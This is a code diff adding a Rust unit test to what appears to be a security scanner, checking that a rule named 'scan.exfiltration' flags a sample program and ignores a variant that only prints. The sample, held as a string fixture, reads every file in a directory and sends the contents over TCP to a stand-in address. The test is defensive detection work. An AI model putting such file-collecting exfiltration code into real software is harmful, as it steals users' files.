@@ -1039,6 +1039,37 @@ mod tests {
         assert_eq!(severity(findings, rule), wanted, "{rule}: {findings:?}");
     }
 
+    #[test]
+    fn what_write_formats_lands_in_its_destination() {
+        // Files a walk found, formatted into a buffer with `writeln!`, then sent.
+        let sent = r#"
+use std::io::{Read, Write};
+use std::net::TcpStream;
+fn collect(dir: &std::path::Path) -> Vec<u8> {
+    let mut body = Vec::new();
+    if let Ok(rd) = std::fs::read_dir(dir) {
+        for ent in rd.flatten() {
+            let mut buf = Vec::new();
+            if let Ok(mut f) = std::fs::File::open(ent.path()) {
+                let _ = f.read_to_end(&mut buf);
+            }
+            let _ = writeln!(body, "{}", String::from_utf8_lossy(&buf));
+        }
+    }
+    body
+}
+fn send(body: &[u8]) {
+    let mut s = TcpStream::connect("192.0.2.44:443").unwrap();
+    s.write_all(body).unwrap();
+}
+pub fn go(dir: &std::path::Path) { let r = collect(dir); send(&r); }
+"#;
+        expect(&findings(sent), "scan.exfiltration", Some(Verdict::Hold));
+        // The listing formatted into a buffer that only goes to the terminal.
+        let printed = sent.replace("send(&r);", "println!(\"{}\", r.len());");
+        expect(&findings(&printed), "scan.exfiltration", None);
+    }
+
     fn severity(findings: &[(String, Verdict)], rule: &str) -> Option<Verdict> {
         findings
             .iter()
